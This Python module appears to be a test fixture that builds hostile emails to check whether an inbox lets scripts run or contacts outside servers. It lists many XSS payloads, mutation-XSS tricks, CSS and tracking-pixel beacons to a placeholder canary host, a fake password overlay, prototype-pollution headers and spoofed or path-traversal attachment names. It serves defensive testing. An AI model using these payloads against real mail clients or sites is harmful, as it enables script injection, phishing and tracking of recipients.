"""Mails that try to run a script in the inbox, to leave it, or to tell another server that they were opened.

Each has a name and the bytes of its message.  `{js}` stands for a script that everybody would notice, and `{canary}` for the
address of a server that nothing may connect to.
"""

from email.header import Header
from typing import NamedTuple

# Whatever a script could do first: it speaks to the console, opens a dialog, marks the page, and calls another server.
# Without quotes, so that it fits into attributes.
SCRIPT = (
    "console.log(/PWNED/);alert(1);try{top.pwned=1;top.location=`{canary}/top`}catch(e){};"
    "try{parent.pwned=1}catch(e){};self.pwned=1;new Image().src=`{canary}/script`"
)

# The bodies of HTML mails.
HTML_BODIES = {
    "script": "<script>{js}</script>",
    "script of another server": "<script src={canary}/a.js></script><script type=module>import `{canary}/b.js`</script>",
    "script as data": "<script src='data:text/javascript,{js}'></script><script>import('data:text/javascript,{js}')</script>",
    "broken script tags": "<scr<script>ipt>{js}</script><SCRIPT\x0c>{js}</SCRIPT ><script/x>{js}</script\t><<script>{js}//",
    "image with handlers": '<img src=x onerror="{js}"><img src="data:image/gif,x" onerror={js} onload={js}>',
    "body with handlers": '<body onload="{js}" onpageshow="{js}" onhashchange="{js}" onfocus="{js}" onresize="{js}">x',
    "elements that fire by themselves": (
        '<details open ontoggle="{js}">x</details><marquee onstart="{js}">x</marquee><input autofocus onfocus="{js}">'
        '<video autoplay onloadstart="{js}" onerror="{js}"><source src=x onerror="{js}"></video>'
        '<style onload="{js}">x{}</style><div style="animation:a 1s" onanimationstart="{js}">x</div><style>@keyframes a{}</style>'
    ),
    "attributes without spaces": '<img/src=x/onerror="{js}"><svg/onload="{js}"><img src=x\x0bonerror="{js}"><a/**/onfocus={js}>',
    "SVG with scripts": (
        '<svg onload="{js}"><script>{js}</script><script href="data:,{js}"/><style onload="{js}"/>'
        '<animate onbegin="{js}" attributeName=x dur=1s /><set attributeName=onload to="{js}"/></svg>'
    ),
    "SVG with links": (
        '<svg><a xlink:href="javascript:{js}"><text y=20>svg link</text></a><use href="data:image/svg+xml,<svg id=x onload={js} />#x"/>'
        '<use href="{canary}/sprite.svg#x"/><image href="{canary}/i.png"/><image xlink:href="{canary}/i.png"/></svg>'
    ),
    "SVG with filters": (
        '<svg><filter id=f><feImage href="{canary}/fe.png"/></filter><rect width=9 height=9 filter="url(#f)"/>'
        '<rect width=9 height=9 fill="url({canary}/fill.svg#a)" filter="url({canary}/filter.svg#f)"/></svg>'
    ),
    "foreign object": '<svg><foreignObject><iframe srcdoc="<script>{js}</script>"></iframe><body onload="{js}"></foreignObject></svg>',
    "MathML": (
        '<math href="javascript:{js}">math link</math><math><maction actiontype="statusline#" xlink:href="javascript:{js}">x'
        '</maction><annotation-xml encoding="text/html"><script>{js}</script></annotation-xml></math>'
    ),
    "mutation in noscript": '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
    "mutation in style": '<svg></p><style><a id="</style><img src=1 onerror={js}>"></style></svg>',
    "mutation in table": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;"></table>'
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>"
    ),
    "mutation in raw text": (
        "<listing>&lt;img src=x onerror={js}&gt;</listing><xmp><img src=x onerror={js}></xmp><plaintext><script>{js}</script>"
    ),
    "mutation in comments": "<!--><img src=x onerror={js}>--><!-- --!><img src=x onerror={js}> --><![CDATA[<img src=x onerror={js}>]]>",
    "processing instructions": '<?xml-stylesheet href="{canary}/x.xsl"?><?php {js} ?><!DOCTYPE x [<!ENTITY y SYSTEM "{canary}/y">]>&y;',
    "meta refresh": '<meta http-equiv=refresh content="0; url={canary}/refresh"><meta http-equiv=refresh content="0;javascript:{js}">',
    "meta policy": (
        "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><meta name=referrer content=unsafe-url>"
        "<meta http-equiv=set-cookie content='a=b'><script>{js}</script>"
    ),
    "base": '<base href="{canary}/base/" target=_top><img src=relative.png><a href=next>base link</a><script src=s.js></script>',
    "forms": (
        '<form id=f action="{canary}/form" target=_top><input name=a value=b autofocus><button>send form</button></form>'
        '<form action="javascript:{js}"><button formaction="javascript:{js}">run form</button></form>'
        '<input type=image src="{canary}/i.png" form=f><isindex action="{canary}/is">'
    ),
    "frames": (
        '<iframe src="{canary}/frame"></iframe><iframe srcdoc="<script>{js}</script>"></iframe><iframe src="javascript:{js}">'
        "</iframe><iframe src=/ sandbox='allow-scripts allow-same-origin'></iframe><frameset><frame src={canary}/f></frameset>"
    ),
    "objects": (
        '<object data="{canary}/object"></object><object data="data:text/html,<script>{js}</script>"></object>'
        '<embed src="{canary}/embed"><embed src="data:image/svg+xml,<svg onload={js} />"><applet code=x archive={canary}/x.jar>'
        '<object classid="clsid:x"><param name=src value="{canary}/p"></object>'
    ),
    "new kinds of frames": "<portal src={canary}/portal></portal><fencedframe src={canary}/fenced></fencedframe><webview src={canary}/w>",
    "templates": (
        "<template shadowrootmode=open><script>{js}</script><img src={canary}/shadow.png><slot></slot></template>"
        "<div><template shadowrootmode=open><style>@import '{canary}/shadow.css'</style></template></div><template><script>{js}</script>"
    ),
    "elements of the inbox": (
        "<app-shell></app-shell><message-view></message-view><inbox-page></inbox-page><p is=app-shell onclick={js}>x</p>"
        "<mail-tab></mail-tab><dialog open><form method=dialog><button>ok</button></form></dialog>"
    ),
    "clobbered names": (
        "<form id=document><input name=cookie><input name=body></form><a id=customElements></a><img name=getElementById>"
        "<a id=smtptest-root href='javascript:{js}'></a><meta name=smtptest-root content='{canary}'><iframe name=self srcdoc=x></iframe>"
    ),
    "CSS that loads": (
        "<style>@import url({canary}/import.css);@font-face{font-family:x;src:url({canary}/font.woff2)}p{font-family:x;"
        "background:url({canary}/bg.png);list-style:url({canary}/list.png);cursor:url({canary}/cursor.png),auto;"
        "border-image:url({canary}/border.png);mask:url({canary}/mask.svg);content:url({canary}/content.png)}</style><p>styled"
    ),
    "CSS that tells": (
        "<style>input[value^=a]{background:url({canary}/a)}:has(p){background:image-set('{canary}/set.png' 1x)}"
        "p::after{content:url({canary}/after)}@media print{p{background:url({canary}/print)}}</style><input value=abc><p>x"
        "<style>@namespace url({canary}/ns);@property --x{syntax:'*';inherits:false;initial-value:url({canary}/prop)}</style>"
    ),
    "CSS that runs": (
        "<style>p{width:expression({js});behavior:url({canary}/x.htc);-moz-binding:url({canary}/x.xml#a);"
        "background:url(\"javascript:{js}\")}</style><p style=\"background:url('javascript:{js}')\">x<link rel=stylesheet href='data:text/css,p{'>"
    ),
    "CSS that covers the page": (
        "<style>html,body,div{position:fixed;inset:0;z-index:2147483647;width:9999px;height:9999px}</style><div>Log in again"
        "<form action={canary}><input type=password></form></div>"
    ),
    "links to resources": "".join(
        f"<link rel={rel} as=image href={{canary}}/{rel}>"
        for rel in (
            "stylesheet",
            "preload",
            "prefetch",
            "prerender",
            "preconnect",
            "dns-prefetch",
            "modulepreload",
            "icon",
            "manifest",
        )
    ),
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{canary}/spec"]}]}</script>',
    "tracking pixels": (
        '<img src="{canary}/pixel.gif" width=1 height=1><img srcset="{canary}/1x.png 1x, {canary}/2x.png 2x" loading=eager>'
        '<picture><source srcset="{canary}/source.webp"><img src="{canary}/img.png"></picture><img lowsrc={canary}/low dynsrc={canary}/dyn>'
        '<table background="{canary}/table.png"><tr background="{canary}/tr.png"><td background="{canary}/td.png">x</table>'
        '<body background="{canary}/body.png"><img src=//{canary}/x><img src="\x01{canary}/control"><image src={canary}/image>'
    ),
    "media": (
        "<video src={canary}/v.mp4 poster={canary}/poster.png autoplay></video><audio src={canary}/a.mp3 autoplay></audio>"
        "<video autoplay><source src={canary}/s.mp4><track default src={canary}/t.vtt></video><bgsound src={canary}/bg.wav>"
    ),
    "links that run": (
        '<a href="javascript:{js}">run</a> <a href="JaVa\tScRiPt:{js}">run tab</a> <a href="&#1;javascript:{js}">run control</a>'
        ' <a href="vbscript:x">run vbs</a> <a href="data:text/html,<script>{js}</script>" target=_top>run data</a>'
        ' <a href="javascript:{js}" target=_top>run top</a> <a href="javascript:{js}" target=_blank>run new</a>'
        ' <a href="blob:null/x">run blob</a> <a href="view-source:{canary}">run source</a> <a href="file:///etc/passwd">run file</a>'
    ),
    "links that navigate the page": (
        '<a href="{canary}/top" target=_top>top</a> <a href="{canary}/parent" target=_parent>parent</a>'
        ' <a href="{canary}/ping" ping="{canary}/ping">ping</a> <a href=# onclick="{js}">click</a> <map name=m><area href="javascript:{js}"></map>'
    ),
    "pop-ups": "<dialog open popover=auto id=p>{js}</dialog><button popovertarget=p onclick={js}>pop</button><p contenteditable oninput={js}>x",
    "template languages": "{{constructor.constructor('{js}')()}} ${`{js}`} <%= {js} %> #{{js}} {root} {noscript} [[${{js}}]]",
    "bidirectional text": "<p>\u202e\u2066\u2069\u200f gnp.exe \u2028\u2029<script>{js}</script>\ufeff\ufffe\uffff",
    "NUL and control bytes": "<scr\0ipt>{js}</script><img src=x o\0nerror={js}><p>\0\x01\x08\x0b\x1b[31m\x7f\x85",
    "deeply nested": "<div>" * 20_000 + "<b onclick={js}>" + "<table><tr><td>" * 200,
    "very many elements": "<i onmouseover={js}>x</i>" * 1_000,
    "very long word": "<p title='" + "x" * 50_000 + "' onclick={js}>" + "W" * 50_000,
}

_CHARSETS = {
    "UTF-7": ("utf-7", b"+ADw-script+AD4-{js}+ADw-/script+AD4-"),
    "UTF-16": ("utf-16", "<script>{js}</script>".encode("utf-16")),
    "ISO-2022-JP": ("iso-2022-jp", b"<img title='\x1b$B' src='\x1b(B onerror={js} //'>"),
    "unknown charset": ("x-'\"><script>{js}</script>", b"<script>{js}</script>"),
    "no charset": ("", b"\xff\xfe<\xe4script>{js}</script>\xed\xa0\x80"),
}

_MARKUP = "</title></textarea><script>{js}</script><img src=x onerror={js}>"


class HostileMail(NamedTuple):
    """A mail, and the envelope with which it is sent."""

    name: str
    content: bytes
    sender: str = "ann@example.com"
    recipients: tuple[str, ...] = ("bob@example.com",)


def list_hostile_mails(canary):
    """Return all hostile mails; `canary` is the URL of the server that nothing may connect to, without a slash."""
    return [
        HostileMail(mail.name, fill(mail.content, canary), fill(mail.sender, canary), mail.recipients)
        for mail in [*_build_html_mails(), *_build_header_mails(), *_build_attachment_mails(), *_build_text_mails()]
    ]


def fill(template, canary):
    """Replace the placeholders of a text, or of bytes."""
    if isinstance(template, bytes):
        return fill(template.decode("latin-1"), canary).encode("latin-1")
    return template.replace("{js}", SCRIPT).replace("{canary}", canary)


def _build_message(body, *, content_type="text/html; charset=utf-8", fields=""):
    data = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")
    head = f"MIME-Version: 1.0\r\nContent-Type: {content_type}\r\nContent-Transfer-Encoding: 8bit\r\n{fields}\r\n"
    return head.encode("utf-8", "surrogatepass") + data


def _build_html_mails():
    for name, body in HTML_BODIES.items():
        yield HostileMail(name, _build_message(body, fields=f"Subject: {name}\r\n"))
    for name, (charset, body) in _CHARSETS.items():
        parameter = f"; charset={charset}" if charset else ""
        yield HostileMail(
            name, _build_message(body, content_type=f"text/html{parameter}", fields=f"Subject: {name}\r\n")
        )


def _encode_word(text):
    return Header(text, "utf-8", maxlinelen=10_000).encode()


def _build_header_mails():
    hello = "<p>Hello"
    fields = {
        "subject with markup": f"Subject: {_MARKUP}\r\n",
        "encoded subject": "Subject: =?utf-8?q?=3Cscript=3E{js}=3C/script=3E?= =?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?=\r\n",
        "very long subject": "Subject: " + "<b onclick={js}>" * 500 + "\r\n",
        "bidirectional subject": "Subject: " + _encode_word("Invoice \u202egpj.exe\u2066 \u2028</script>") + "\r\n",
        "subject of control bytes": "Subject: \x01\x08\x1b[31m\x7f \x00 \x0b\r\n",
        "subject that is not UTF-8": "Subject: \udcff\udcfe\udced\udca0\udc80 =?utf-16?b?2AA=?= =?utf-8?b?7aCA?=\r\n",
        "names with markup": f'From: "{_MARKUP}" <x@example.com>\r\nTo: "{_MARKUP}" <"<b>{{js}}</b>"@example.com>\r\nReply-To: {_MARKUP}\r\n',
        "many names": "To: "
        + ",\r\n ".join(f'"<i onclick={{js}}>{n}" <u{n}@example.com>' for n in range(500))
        + "\r\n",
        "fields with markup": f"Date: {_MARKUP}\r\nMessage-ID: <{_MARKUP}>\r\nX-<script>{{js}}</script>: {_MARKUP}\r\nReceived: {_MARKUP}\r\n",
        "fields of an object": "__proto__: {js}\r\nconstructor: x\r\ntoString: x\r\nhasOwnProperty: x\r\nSubject: __proto__\r\n",
        "tags with markup": f"X-Tags: {_MARKUP}, __proto__, javascript:{{js}}\r\nSubject: tags\r\n",
        "hostile unsubscription": (
            "List-Unsubscribe: <javascript:{js}>, <{canary}/unsubscribe>, <mailto:x@example.com?subject=<script>{js}</script>>\r\n"
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nList-Id: <script>{js}</script>\r\nSubject: list\r\n"
        ),
        "many fields": "".join(f"X-Field-{n}: <img src=x onerror={{js}}>\r\n" for n in range(600))
        + "Subject: many fields\r\n",
        "broken fields": 'Subject\r\n: x\r\n<script>{js}</script>\r\nContent-Type: text/html; charset="</script><script>{js}</script>"\r\n',
    }
    for name, text in fields.items():
        raw = text.encode("utf-8", "surrogateescape")
        yield HostileMail(name, raw + _build_message(hello))
    yield HostileMail(
        "envelope with markup",
        _build_message(hello, fields="Subject: envelope\r\n"),
        '"<img src=x onerror=alert(1)>"@example.com',
        ('"<script>alert(1)</script>"@example.com', '"</td><svg onload=alert(1)>"@example.com', "x&y'{z}@example.com"),
    )


def _build_multipart(name, html, *parts):
    pieces = [
        f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n",
        *(f"--b\r\n{part}\r\n" for part in parts),
    ]
    head = f"Subject: {name}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    return HostileMail(name, (head + "".join(pieces) + "--b--\r\n").encode("utf-8", "surrogateescape"))


def _build_attachment_mails():
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'><script>{js}</script><image href='{canary}/i.png'/></svg>"
    yield _build_multipart(
        "file names with markup",
        "<p>x",
        f'Content-Type: text/plain; name="{_MARKUP}"\r\nContent-Disposition: attachment; filename="{_MARKUP}"\r\n\r\nx',
        'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="../../../etc/passwd"\r\n\r\nx',
        "Content-Type: text/plain\r\nContent-Disposition: attachment; filename*=utf-8''%E2%80%AEgpj.exe%00%0D%0A\"\r\n\r\nx",
        "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=__proto__\r\n\r\nx",
        "Content-Type: <script>{js}</script>/<b>\r\nContent-Disposition: <img src=x onerror={js}>; filename=\udcff\udcfe\r\n\r\nx",
        'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="' + "x" * 5_000 + '"\r\n\r\nx',
    )
    yield _build_multipart(
        "pages as files",
        "<p>x<img src=cid:svg><img src=cid:html><object data=cid:html></object><iframe src=cid:html></iframe>",
        f"Content-Type: image/svg+xml\r\nContent-ID: <svg>\r\nContent-Disposition: inline; filename=a.svg\r\n\r\n{svg}",
        f"Content-Type: image/png\r\nContent-Disposition: inline; filename=a.png\r\n\r\n{svg}",
        "Content-Type: text/html\r\nContent-ID: <html>\r\nContent-Disposition: inline; filename=a.html\r\n\r\n<script>{js}</script>",
        "Content-Type: application/xhtml+xml\r\nContent-Disposition: inline\r\n\r\n<html xmlns='http://www.w3.org/1999/xhtml'><script>{js}</script></html>",
        "Content-Type: text/xml\r\n\r\n<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{canary}/x.xsl'?><x/>",
        "Content-Type: application/javascript\r\nContent-Disposition: inline; filename=app.js\r\n\r\n{js}",
        "Content-Type: text/css\r\nContent-Disposition: inline; filename=base.css\r\n\r\n@import '{canary}/x.css'",
        "Content-Type: application/pdf\r\nContent-Disposition: inline; filename=a.pdf\r\n\r\n%PDF-1.7 <</OpenAction<</S/JavaScript/JS({js})>>>>",
    )
    yield _build_multipart(
        "hostile content IDs",
        '<img src="cid:a&quot; onerror=&quot;{js}"><img src=\'cid:"onerror="{js}\'><style>p{background:url(cid:x);}</style><p>x',
        'Content-Type: image/png\r\nContent-ID: <a" onerror="{js}>\r\n\r\nx',
        "Content-Type: image/png\r\nContent-ID: <x);background:url({canary}/cid)>\r\n\r\nx",
        "Content-Type: image/png\r\nContent-ID: <javascript:{js}>\r\nContent-Location: {canary}/location.png\r\n\r\nx",
    )
    nested = "Content-Type: message/rfc822\r\n\r\nSubject: <script>{js}</script>\r\nContent-Type: text/html\r\n\r\n<script>{js}</script>"
    yield _build_multipart("mail in a mail", "<p>x", nested, nested)
    deep = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(120))
    yield HostileMail(
        "deep MIME tree", f"Subject: deep\r\n{deep}Content-Type: text/html\r\n\r\n<script>{{js}}</script>".encode()
    )
    calendar = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<script>{js}</script>\r\nURL:javascript:{js}\r\nEND:VEVENT\r\nEND:VCALENDAR"
    yield _build_multipart("calendar and card", "<p>x", f"Content-Type: text/calendar\r\n\r\n{calendar}")


def _build_text_mails():
    texts = {
        "text with markup": f"{_MARKUP}\r\n<a href=javascript:{{js}}>x</a>\r\n",
        "text with links": (
            'javascript:{js} data:text/html,<script>{js}</script> https://example.com/"><script>{js}</script>\r\n'
            "{canary}/text?a='onclick='{js} http://user:secret@example.com/ http://[::1]:1/ https://xn--pple-43d.example/\r\n"
            "Your code is <b onclick={js}>123456</b> or 654321'\"><img src=x onerror={js}>\r\n"
        ),
        "text of control sequences": "\x1b]8;;{canary}\x07click\x1b]8;;\x07\x1b[2J \x00 \x85 \u2028 \u202e\u2066 \ud800 \ufffe\r\n",
        "very long line": "<script>{js}</script>" * 500,
    }
    for name, text in texts.items():
        yield HostileMail(
            name, _build_message(text, content_type="text/plain; charset=utf-8", fields=f"Subject: {name}\r\n")
        )
